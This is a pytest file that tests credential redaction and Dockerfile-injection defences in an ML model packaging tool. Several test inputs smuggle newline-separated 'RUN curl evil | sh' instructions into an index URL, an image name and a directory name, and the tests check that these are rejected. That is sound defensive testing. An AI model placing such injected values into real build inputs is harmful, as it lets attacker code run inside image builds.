"""Credentials in requirements and index URLs; Dockerfile injection (issue 21, items 6, 12).

Before: ``pkg @ https://user:SECRET@host/p.whl`` went verbatim into requirements.txt,
conda.yaml and the image; ``--pip-index-url 'https://…?private_token=…'`` landed in a RUN line;
a requirements line ``--extra-index-url https://u:PW@…`` failed generate-dockerfile with the
password printed twice and left a half-written context; a newline in --pip-index-url or in a
model path injected Dockerfile instructions.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from click.testing import CliRunner

from mlreg.builder import context as ctx
from mlreg.builder.pipconfig import IndexSettings
from mlreg.cli import main
from mlreg.credentials import has_credentials, redact
from mlreg.errors import InvalidInput
from mlreg.models.env import resolve_requirements
from tests.conftest import make_model_dir

SECRET = "S3cr3tValue"
NO_HOST_PIP = IndexSettings()


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        (f"pkg @ https://user:{SECRET}@host/p.whl", "pkg @ https://***@host/p.whl"),
        (f"--extra-index-url https://u:{SECRET}@pypi.corp/simple", "https://***@pypi.corp"),
        (f"https://gitlab.corp/simple?private_token={SECRET}", "?private_token=***"),
        (f"https://h/simple?x=1&access_token={SECRET}", "&access_token=***"),
        (f"git+https://{SECRET}@github.com/o/r.git", "git+https://***@github.com"),
    ],
    ids=["userinfo", "index-url", "gitlab-token", "access-token", "token-as-user"],
)
def test_credentials_are_found_and_redacted(text, shown):
    assert has_credentials(text)
    assert shown in redact(text) and SECRET not in redact(text)


def test_plain_urls_and_pins_are_not_credentials():
    for text in ("numpy==2.0", "pkg @ https://host/p.whl", "https://pypi.org/simple?page=2"):
        assert not has_credentials(text) and redact(text) == text


def test_extra_pip_requirements_with_credentials_are_refused_unprinted():
    with pytest.raises(InvalidInput) as e:
        resolve_requirements(["numpy"], extra_pip_requirements=[f"pkg @ https://u:{SECRET}@h/p"])
    assert SECRET not in e.value.message and "carries credentials" in e.value.message


@pytest.fixture
def model(tmp_path) -> Path:
    return make_model_dir(tmp_path / "model")


def test_a_requirements_line_with_a_password_fails_cleanly(model, tmp_path):
    (model / "requirements.txt").write_text(
        f"numpy\n--extra-index-url https://u:{SECRET}@pypi.corp/simple\n"
    )
    out = tmp_path / "context"
    result = CliRunner().invoke(main, ["generate-dockerfile", "-m", str(model), "-d", str(out)])
    assert result.exit_code == 2
    assert SECRET not in result.output and SECRET not in result.stderr
    assert result.stderr.count("\n") == 1 and "carries credentials" in result.stderr
    assert not out.exists() and list(tmp_path.glob(".context-*")) == []  # nothing half made


@pytest.mark.parametrize(
    "url",
    [f"https://u:{SECRET}@pypi.corp/simple", f"https://gitlab.corp/simple?private_token={SECRET}"],
    ids=["userinfo", "token-query"],
)
def test_index_urls_with_credentials_are_refused_unprinted(model, tmp_path, url):
    options = ctx.BuildOptions(pip_index_url=url, host_pip=NO_HOST_PIP)
    with pytest.raises(InvalidInput) as e:
        ctx.write_context(str(model), tmp_path / "c", options)
    assert SECRET not in e.value.message and "has credentials" in e.value.message
    assert not (tmp_path / "c").exists()


@pytest.mark.parametrize(
    ("options", "what"),
    [
        ({"pip_index_url": "https://h/simple\nRUN curl evil | sh"}, "pip index URL"),
        ({"base_image": "python:3.11\nRUN curl evil | sh"}, "base image"),
        ({"build_image": "python:3.11 AS x\nRUN evil"}, "build image"),
    ],
    ids=["index-url", "base-image", "build-image"],
)
def test_values_that_would_inject_instructions_are_refused(model, tmp_path, options, what):
    with pytest.raises(InvalidInput, match=what):
        ctx.write_context(
            str(model), tmp_path / "c", ctx.BuildOptions(host_pip=NO_HOST_PIP, **options)
        )
    assert not (tmp_path / "c").exists()


def test_a_model_directory_name_cannot_inject_either(tmp_path):
    model = make_model_dir(tmp_path / "m\nRUN curl evil | sh #")
    ctx.write_context(str(model), tmp_path / "c", ctx.BuildOptions(host_pip=NO_HOST_PIP))
    dockerfile = (tmp_path / "c" / "Dockerfile").read_text()
    # The path may appear only JSON-escaped inside a label value, never as an instruction.
    assert not any(line.lstrip().startswith("RUN curl") for line in dockerfile.splitlines())
    assert dockerfile.splitlines()[0].startswith("# mlreg serving image for model m_RUN_curl")
